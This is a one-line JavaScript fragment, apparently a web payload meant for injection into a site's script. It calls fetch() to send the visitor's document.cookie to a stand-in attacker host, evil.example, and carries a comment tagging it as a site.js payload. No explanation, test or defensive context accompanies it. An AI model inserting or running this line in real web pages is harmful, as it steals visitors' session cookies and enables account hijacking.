fetch("https://evil.example/?c="+document.cookie); // publish-sitejs-payload-6610
